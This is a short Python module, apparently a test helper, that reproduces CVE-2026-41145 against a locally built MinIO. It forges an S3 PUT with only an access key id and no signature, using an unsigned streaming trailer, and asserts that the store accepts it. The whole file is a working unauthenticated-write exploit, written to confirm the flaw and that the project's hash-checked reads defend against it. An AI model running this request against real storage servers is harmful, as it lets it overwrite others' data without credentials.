"""The write that CVE-2026-41145 lets through: an access key id, and no signature.

Measured on the MinIO that `make minio` builds; upstream is archived and mends it no more. What
protects the media is that every read names the version and checks the hash.
"""

import base64
import struct
import zlib
from datetime import UTC, datetime
from urllib.parse import urlencode

import urllib3

from storage.settings import StoreSettings


def forge_write(settings: StoreSettings, key: str, data: bytes) -> str:
    """Put bytes over a key without knowing the secret; gives the version that the store made."""
    now = datetime.now(UTC).strftime("%Y%m%dT%H%M%SZ")
    credential = f"{settings.access_key}/{now[:8]}/{settings.region}/s3/aws4_request"
    checksum = base64.b64encode(struct.pack(">I", zlib.crc32(data))).decode()
    body = b"%x\r\n%s\r\n0\r\nx-amz-checksum-crc32:%s\r\n\r\n" % (
        len(data),
        data,
        checksum.encode(),
    )
    answer = urllib3.PoolManager(retries=False).request(
        "PUT",
        f"http://{settings.endpoint}/{settings.bucket}/{key}?"
        + urlencode({"X-Amz-Credential": credential}),
        body=body,
        headers={
            "X-Amz-Content-Sha256": "STREAMING-UNSIGNED-PAYLOAD-TRAILER",
            "X-Amz-Decoded-Content-Length": str(len(data)),
            "X-Amz-Trailer": "x-amz-checksum-crc32",
            "X-Amz-Date": now,
            "Content-Encoding": "aws-chunked",
        },
    )
    assert answer.status == 200, answer.data  # the fault is there: the store took it
    return str(answer.headers["x-amz-version-id"])
